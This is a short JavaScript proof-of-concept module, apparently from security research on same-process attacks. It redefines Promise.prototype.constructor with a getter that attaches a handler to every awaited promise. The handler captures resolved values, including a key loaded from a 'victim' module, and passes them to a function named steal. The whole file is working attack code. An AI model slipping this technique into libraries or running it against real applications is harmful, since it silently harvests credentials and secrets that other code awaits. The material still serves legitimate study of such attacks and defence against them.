/**
 * Route: `await` reads `constructor` of a promise. A getter on the prototype sees every promise
 * that is awaited, and can wait for its value.
 */
import { loadKey, steal } from './victim.mjs';

const { constructor: original, then } = Promise.prototype;
const found = [];
let isBusy = false;
Object.defineProperty(Promise.prototype, 'constructor', {
  get() {
    if (!isBusy) {
      isBusy = true;
      Reflect.apply(then, this, [(value) => found.push(value), () => {}]);
      isBusy = false;
    }
    return original;
  },
});
await loadKey();
steal(found);
